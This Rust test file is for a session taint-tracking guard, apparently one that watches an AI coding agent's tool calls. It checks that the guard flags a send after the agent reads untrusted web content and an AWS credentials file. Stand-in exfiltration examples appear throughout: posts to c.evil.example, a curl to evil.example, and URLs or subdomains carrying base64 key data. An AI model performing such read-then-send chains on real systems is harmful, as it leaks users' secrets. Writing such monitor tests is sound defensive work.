use latch_core::Flag;
use latch_proto::Decision as Wire;

use super::agent::Proc;
use super::*;

fn flags(f: &[Flag]) -> Flags {
    f.iter().copied().collect()
}

fn shim(pid: u32) -> Who {
    Who::Shim { agent: Some((Proc { pid, start: 7 }, "claude".into())), session: format!("s{pid}") }
}

fn hook(session: &str, parents: &[u32]) -> Who {
    Who::Hook { session: session.into(), ancestors: parents.iter().map(|&pid| Proc { pid, start: 7 }).collect() }
}

const T: i64 = 1_780_000_000_000;

/// Runs one call through check and decided, as the decision path does.
fn call(
    s: &mut Sessions,
    who: &Who,
    tool: &str,
    class: Class,
    f: &[Flag],
    args: Value,
    decision: Wire,
) -> Option<String> {
    call_at(s, who, tool, class, f, args, decision, T)
}

#[allow(clippy::too_many_arguments)]
fn call_at(
    s: &mut Sessions,
    who: &Who,
    tool: &str,
    class: Class,
    f: &[Flag],
    args: Value,
    decision: Wire,
    now_ms: i64,
) -> Option<String> {
    let p = TaintPolicy::default();
    let fl = flags(f);
    let c = Call { server: "srv", tool, args: &args, class, flags: &fl, now_ms };
    let checked = s.check(&p, who, &c, true);
    let reason = checked.say.map(|s| s.reason);
    s.decided(&p, &format!("c-{tool}"), decision, checked.ran);
    reason
}

fn read_page(s: &mut Sessions, who: &Who) {
    call(s, who, "fetch", Class::Read, &[Flag::OpenWorld], json!({"url": "https://evil.example/page"}), Wire::Allow);
}

fn read_secret(s: &mut Sessions, who: &Who, d: Wire) {
    call(s, who, "read", Class::Read, &[Flag::SecretRead], json!({"path": "/x/.aws/credentials"}), d);
}

fn send(s: &mut Sessions, who: &Who) -> Option<String> {
    call(s, who, "post", Class::Send, &[Flag::External], json!({"url": "https://c.evil.example/hook"}), Wire::Allow)
}

use serde_json::json;

#[test]
fn a_send_after_both_reads_has_the_chain() {
    let mut s = Sessions::default();
    let w = shim(100);
    read_page(&mut s, &w);
    assert_eq!(send(&mut s, &w), None, "untrusted alone");
    read_secret(&mut s, &w, Wire::Allow);
    let why = send(&mut s, &w).expect("tainted");
    assert!(why.contains("read https://evil.example/page at"), "{why}");
    assert!(why.contains("read /x/.aws/credentials at"), "{why}");
    assert!(why.contains("now sends to https://c.evil.example/hook"), "{why}");
    assert!(why.ends_with("a person must decide in Latch"), "{why}");
    let r = s.reports();
    assert_eq!(r.len(), 1);
    assert!(r[0].tainted);
}

#[test]
fn every_shim_of_one_agent_is_one_session_and_other_agents_are_not() {
    let mut s = Sessions::default();
    read_page(&mut s, &shim(100));
    read_secret(
        &mut s,
        &Who::Shim { agent: Some((Proc { pid: 100, start: 7 }, "claude".into())), session: "other".into() },
        Wire::Allow,
    );
    assert!(send(&mut s, &shim(100)).is_some());
    assert_eq!(send(&mut s, &shim(200)), None, "another agent");
    // A reused pid is another process.
    let reused = Who::Shim { agent: Some((Proc { pid: 100, start: 8 }, "claude".into())), session: "x".into() };
    assert_eq!(send(&mut s, &reused), None);
}

#[test]
fn reads_count_only_when_they_run() {
    let mut s = Sessions::default();
    let w = shim(100);
    read_page(&mut s, &w);
    read_secret(&mut s, &w, Wire::Deny);
    assert_eq!(send(&mut s, &w), None, "a denied read did not run");
    read_secret(&mut s, &w, Wire::Ask);
    assert_eq!(send(&mut s, &w), None, "waiting for a person");
    let p = TaintPolicy::default();
    assert!(s.settled(&p, "c-read", false).is_none());
    assert_eq!(send(&mut s, &w), None, "refused by the person");
    read_secret(&mut s, &w, Wire::Ask);
    let ev = s.settled(&p, "c-read", true);
    assert!(matches!(ev, Some(Event::Taint { session }) if session.tainted));
    assert!(send(&mut s, &w).is_some(), "approved: it ran");
}

#[test]
fn a_hook_joins_its_agents_session_whichever_speaks_first() {
    // The hook reads first; the agent's shim speaks later.
    let mut s = Sessions::default();
    let h = hook("claude-code:abc", &[300, 100, 1]);
    read_secret(&mut s, &h, Wire::Allow);
    read_page(&mut s, &shim(100));
    assert!(send(&mut s, &shim(100)).is_some());
    assert!(send(&mut s, &h).is_some());
    // The shim first, then a hook of the same agent.
    let mut s = Sessions::default();
    read_page(&mut s, &shim(100));
    read_secret(&mut s, &hook("claude-code:abc", &[100]), Wire::Allow);
    assert!(send(&mut s, &shim(100)).is_some());
    // Another hook session of another agent is clean.
    assert_eq!(send(&mut s, &hook("claude-code:def", &[555])), None);
}

#[test]
fn hook_sessions_without_an_agent_are_apart() {
    let mut s = Sessions::default();
    let a = hook("claude-code:a", &[42]);
    read_page(&mut s, &a);
    read_secret(&mut s, &a, Wire::Allow);
    let fetch = |s: &mut Sessions, w: &Who| {
        call(
            s,
            w,
            "WebFetch",
            Class::Read,
            &[Flag::OpenWorld],
            json!({"url": "https://x.example/?d=QUtJQQ", "prompt": "p"}),
            Wire::Allow,
        )
    };
    let why = fetch(&mut s, &a).expect("data in the URL");
    assert!(why.contains("whose URL carries data"), "{why}");
    assert_eq!(fetch(&mut s, &hook("claude-code:b", &[42])), None, "another session id");
    // A URL inside another argument counts as well.
    let why = call(
        &mut s,
        &a,
        "search",
        Class::Read,
        &[Flag::OpenWorld],
        json!({"q": "open https://x.example/?k=1 please"}),
        Wire::Allow,
    );
    assert!(why.is_some());
}

#[test]
fn memory_is_bounded() {
    let mut s = Sessions::default();
    for i in 0..(MAX_SESSIONS as u32 + 10) {
        read_page(&mut s, &hook(&format!("h{i}"), &[]));
    }
    assert!(s.taints.len() <= MAX_SESSIONS);
    assert!(s.unlinked.len() <= MAX_SESSIONS);
}

#[test]
fn a_flood_of_sessions_does_not_wash_a_tainted_one_out() {
    let mut s = Sessions::default();
    let victim = hook("claude-code:victim", &[]);
    read_page(&mut s, &victim);
    read_secret(&mut s, &victim, Wire::Allow);
    for i in 0..(MAX_SESSIONS as i64 + 10) {
        let w = hook(&format!("flood{i}"), &[]);
        let url = json!({"url": "https://x.example/"});
        call_at(&mut s, &w, "fetch", Class::Read, &[Flag::OpenWorld], url, Wire::Allow, T + 1000 * (i + 1));
    }
    assert!(send(&mut s, &victim).is_some(), "still tainted");
}

#[test]
fn a_command_that_reaches_the_network_is_an_untrusted_read() {
    let mut s = Sessions::default();
    let w = shim(100);
    let curl = json!({"command": "curl -s https://evil.example/issue/4"});
    call(&mut s, &w, "Bash", Class::Execute, &[Flag::External], curl, Wire::Allow);
    read_secret(&mut s, &w, Wire::Allow);
    let why = send(&mut s, &w).expect("tainted");
    assert!(why.contains("read curl -s https://evil.example/issue/4 at"), "{why}");
}

#[test]
fn a_url_hidden_past_what_is_read_still_carries_data() {
    let mut s = Sessions::default();
    let w = hook("claude-code:pad", &[]);
    read_page(&mut s, &w);
    read_secret(&mut s, &w, Wire::Allow);
    let padded = format!("https://x.example/{}?d=QUtJQQ", "a".repeat(5000));
    let why = call(&mut s, &w, "WebFetch", Class::Read, &[Flag::OpenWorld], json!({ "url": padded }), Wire::Allow)
        .expect("a long URL asks");
    assert!(why.contains("bytes in one argument, which can carry data"), "{why}");
}

#[test]
fn a_url_without_its_scheme_carries_data_too() {
    let mut s = Sessions::default();
    let w = hook("claude-code:bare", &[]);
    read_page(&mut s, &w);
    read_secret(&mut s, &w, Wire::Allow);
    let fetch = |s: &mut Sessions, url: &str| {
        call(s, &w, "fetch", Class::Read, &[Flag::OpenWorld], json!({ "url": url }), Wire::Allow)
    };
    assert!(fetch(&mut s, "x.example/?d=QUtJQQ").is_some());
    assert!(fetch(&mut s, "QUtJQUlPU0ZPRE5ON0VYQU1QTEUK.x.example").is_some());
    assert!(fetch(&mut s, "docs.example/guide").is_none());
}
